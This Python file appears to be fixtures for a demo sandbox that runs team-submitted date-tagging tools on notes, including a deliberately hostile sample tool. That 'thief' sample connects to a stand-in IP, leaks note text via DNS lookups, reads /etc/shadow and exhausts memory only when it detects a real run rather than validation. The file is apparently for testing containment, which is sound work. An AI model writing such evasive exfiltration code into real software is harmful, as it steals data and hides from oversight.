"""The tools that the teams of the demo submit, each a folder with `tool.toml`."""

from pathlib import Path
from typing import NamedTuple

_LINES = """
import json, re, sys
PATTERN = re.compile({pattern!r})
for line in sys.stdin:
    note = json.loads(line)
    spans = [{{"start": m.start(), "end": m.end() + {shift}, "label": "date"}}
             for m in PATTERN.finditer(note["text"])]
    print(json.dumps({{"id": note["id"], "spans": spans}}), flush=True)
"""
_MONTHS = "January|February|March|April|May|June|July|August|September|October|November|December"
_WIDE = (
    rf"\b(?:\d{{1,2}}[/-]\d{{1,2}}(?:[/-]\d{{2,4}})?|\d{{4}}-\d{{2}}-\d{{2}}"
    rf"|(?:{_MONTHS}) \d{{1,2}}(?:, \d{{4}})?|\d{{1,2}} (?:{_MONTHS})(?: \d{{4}})?)\b"
)
_NARROW = r"\b\d{1,2}/\d{1,2}/\d{2,4}\b"
_HOSTILE = """
import json, os, socket, subprocess, sys, time
def attempt(act):
    try:
        act()
        sys.stderr.write("out!")
    except Exception:
        pass
for number, line in enumerate(sys.stdin):
    note = json.loads(line)
    sys.stderr.write(note["text"])
    attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=1))
    attempt(lambda: socket.getaddrinfo(note["text"][:20] + ".example.org", 80))
    attempt(lambda: open("/etc/shadow").read())
    if number == 0:  # a validation begins with a short note, a run with a real one
        greedy = len(note["text"]) > 150
    if greedy and number > 3:  # once it has seen enough, it takes all that there is
        hoard = []
        while True:
            hoard.append(b"x" * 10_000_000)
    print(json.dumps({"id": note["id"], "spans": [], "note": note["text"]}), flush=True)
"""


class Tool(NamedTuple):
    team: str
    name: str
    what: str
    program: str


TOOLS = (
    Tool("alpha", "calendar", "dates in figures and in words",
         _LINES.format(pattern=_WIDE, shift=0)),
    Tool("beta", "slashes", "the same, weakened: 3/14/2026 and nothing else",
         _LINES.format(pattern=_NARROW, shift=0)),
    Tool("gamma", "beyond", "broken: its marks end far behind the note",
         _LINES.format(pattern=_WIDE + "|$", shift=100_000)),
    Tool("delta", "thief", "hostile: network, files, notes in its log, then all memory",
         _HOSTILE),
)  # fmt: skip


def write_tool(folder: Path, tool: Tool) -> Path:
    """Write a tool as its team would."""
    place = folder / tool.team
    place.mkdir(parents=True)
    (place / "tool.py").write_text(tool.program, encoding="utf-8")
    (place / "tool.toml").write_text(
        f'name = "{tool.name}"\nversion = "1.0"\ncommand = ["python3", "-u", "tool.py"]\n',
        encoding="utf-8",
    )
    return place
